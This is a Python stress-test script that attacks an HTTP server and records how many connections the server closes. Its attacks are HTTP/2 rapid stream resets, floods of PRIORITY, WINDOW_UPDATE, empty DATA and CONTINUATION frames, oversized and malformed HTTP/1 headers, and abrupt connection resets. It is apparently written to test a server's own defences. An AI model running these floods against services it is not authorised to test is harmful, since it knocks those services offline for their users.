"""Does to a service what a bad client does, over and over, and says what became of it.

usage: abuse.py URL KIND SECONDS [CONNECTIONS]

KIND is one of:
  heads      requests that are malformed, or larger than is taken, and trailers that say things about connections
  resets     HTTP/2 streams that are opened and reset, on many connections
  deadlines  HTTP/2 streams, a connection full, that are all reset together
  closes     HTTP/1 requests whose connection is reset at once
  frames     PRIORITY, WINDOW_UPDATE, empty DATA and CONTINUATION without end
  requests   no abuse: as many requests as `deadlines` sends, whose answers are awaited

Prints one JSON object: what was done, and how many connections the other side closed.
"""

import asyncio
import collections
import json
import socket
import struct
import sys
import time
import urllib.parse

import priority

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)

did = collections.Counter()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix):
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def head(path, host, method=b"GET"):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", host)]
    return b"".join(literal(name, value) for name, value in fields)


class Client:
    def __init__(self, url, until):
        self.host, self.port, self.until = url.hostname, url.port or 80, until
        # Several times what a link may reset; more would try the processor, and nobody's bounds.
        self.most = 8000 * (until - time.monotonic())
        self.authority = url.netloc.encode()

    def over(self):
        return time.monotonic() >= self.until

    async def open(self):
        did["connections"] += 1
        return await asyncio.open_connection(self.host, self.port)

    async def http2(self):
        reader, writer = await self.open()
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        return reader, writer

    async def streams(self, count, pause):
        """Opens `count` streams at a time on a connection, and resets them after a pause."""
        block = head(b"/hang", self.authority)
        while not self.over():
            try:
                reader, writer = await self.http2()
                drain = asyncio.ensure_future(reader.read(-1))
                first = 1
                while not self.over() and not drain.done() and first < 1 << 20:
                    if did["streams"] >= self.most:
                        await asyncio.sleep(0.02)
                        continue
                    did["streams"] += count
                    ids = range(first, first + 2 * count, 2)
                    writer.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, block) for i in ids))
                    await writer.drain()
                    await asyncio.sleep(pause)
                    writer.write(b"".join(frame(RST_STREAM, 0, i, CANCEL) for i in ids))
                    await writer.drain()
                    did["resets"] += count
                    first += 2 * count
                if drain.done():
                    did["sent away"] += 1
                drain.cancel()
                writer.close()
            except OSError:
                did["broken"] += 1
                await asyncio.sleep(0.01)

    async def resets(self):
        await self.streams(10, 0.003)

    async def deadlines(self):
        await self.streams(500, 0.1)

    async def requests(self):
        block = head(b"/", self.authority)
        window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
        while not self.over():
            try:
                reader, writer = await self.http2()
                writer.write(window)
                for first in range(1, 1 << 20, 1000):
                    while did["streams"] >= self.most and not self.over():
                        await asyncio.sleep(0.02)
                    if self.over():
                        break
                    did["streams"] += 500
                    ids = range(first, first + 1000, 2)
                    writer.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, block) for i in ids))
                    ended = 0
                    while ended < 500 and not self.over():
                        start = await asyncio.wait_for(reader.readexactly(9), 10)
                        await reader.readexactly(int.from_bytes(start[:3], "big"))
                        ended += start[3] == RST_STREAM or start[3] in (DATA, HEADERS) and start[4] & END_STREAM
                        did["answers"] += start[3] == HEADERS
                writer.close()
            except (OSError, EOFError, asyncio.TimeoutError):
                did["broken"] += 1
                await asyncio.sleep(0.01)

    async def closes(self):
        request = b"GET /hang HTTP/1.1\r\nhost: " + self.authority + b"\r\n\r\n"
        while not self.over():
            try:
                _, writer = await self.open()
                writer.write(request)
                await writer.drain()
                await asyncio.sleep(0.003)
                # A reset, no orderly end.
                plain = writer.get_extra_info("socket")
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                writer.transport.abort()
                did["closes"] += 1
            except OSError:
                did["broken"] += 1
                await asyncio.sleep(0.01)

    async def heads(self):
        host = self.authority
        chunked = b"POST / HTTP/1.1\r\nhost: " + host + b"\r\ntransfer-encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n"
        get = b"GET / HTTP/1.1\r\nhost: " + host + b"\r\n"
        requests = [
            b"GET * HTTP/1.1\r\nhost: " + host + b"\r\n\r\n",
            b"GET http://h HTTP/1.1\r\nhost: h\r\n\r\n",
            b"GET http://h?x HTTP/1.1\r\nhost: h\r\n\r\n",
            chunked + b"keep-alive: timeout=1\r\nproxy-connection: x\r\nupgrade: y\r\n\r\n",
            chunked + b"x: " + b"t" * 17_000 + b"\r\n\r\n",
            get + b"x: " + b"v" * 65_200 + b"\r\n\r\n",
            get + b"x: " + b"v" * 65_300 + b"\r\n\r\n",
            get + b"x: " + b"v" * 60_000 + b"\r\n" + b"y: z\r\n" * 120 + b"\r\n",
            get + b"y: z\r\n" * 250 + b"\r\n",
            get + b"cookie: a=12345678\r\n" * 1000 + b"\r\n",
            b"POST / HTTP/1.1\r\nhost: " + host + b"\r\ncontent-length: 10\r\n\r\nhello",
            get + b"te: gzip\r\nx-obs: \xff\r\nconnection: x, te\r\nx: 1\r\n\r\n",
        ]
        blocks = [
            head(b"*", host),
            head(b"/", host, b"POST") + literal(b"content-length", b"3"),
            head(b"/", host) + b"".join(literal(b"cookie", b"c=12345678") for _ in range(2000)),
            head(b"/", host) + literal(b"x", b"v" * 65_000),
            head(b"/", host) + literal(b"te", b"gzip"),
            head(b"/", host) + b"".join(literal(b"y", b"z") for _ in range(250)),
        ]
        turn = 0
        while not self.over():
            try:
                turn += 1
                if turn % 2:
                    reader, writer = await self.open()
                    writer.write(requests[turn // 2 % len(requests)])
                    writer.write_eof()
                    await asyncio.wait_for(reader.read(-1), 10)
                    did["requests"] += 1
                else:
                    reader, writer = await self.http2()
                    for i, block in enumerate(blocks):
                        parts = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
                        for part, piece in enumerate(parts):
                            flags = END_HEADERS if part + 1 == len(parts) else 0
                            kind = CONTINUATION if part else HEADERS
                            end = 0 if part or i == 1 else END_STREAM
                            writer.write(frame(kind, flags | end, 2 * i + 1, piece))
                        if i == 1:
                            writer.write(frame(DATA, END_STREAM, 2 * i + 1, b"hi"))
                        did["requests"] += 1
                    writer.write_eof()
                    await asyncio.wait_for(reader.read(-1), 10)
                writer.close()
            except (OSError, asyncio.TimeoutError):
                did["broken"] += 1

    async def frames(self):
        block = head(b"/hang", self.authority, b"POST")
        floods = [
            frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"),
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            frame(DATA, 0, 1),
            frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
            frame(DATA, 0, 1, b"x"),
            None,
        ]
        turn = 0
        while not self.over():
            try:
                turn += 1
                flood = floods[turn % len(floods)]
                reader, writer = await self.http2()
                drain = asyncio.ensure_future(reader.read(-1))
                if flood is None:
                    writer.write(frame(HEADERS, 0, 1, block))
                    flood = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))
                else:
                    writer.write(frame(HEADERS, END_HEADERS, 1, block))
                for _ in range(20):
                    if drain.done() or self.over():
                        break
                    writer.write(flood * 500)
                    did["frames"] += 500
                    await writer.drain()
                    await asyncio.sleep(0.002)
                did["sent away"] += drain.done()
                drain.cancel()
                writer.close()
            except OSError:
                did["broken"] += 1


async def main():
    url, kind, seconds = urllib.parse.urlsplit(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else 50
    client = Client(url, time.monotonic() + seconds)
    await asyncio.gather(*(getattr(client, kind)() for _ in range(connections)))
    print(json.dumps(did), flush=True)


priority.lowest()
asyncio.run(main())
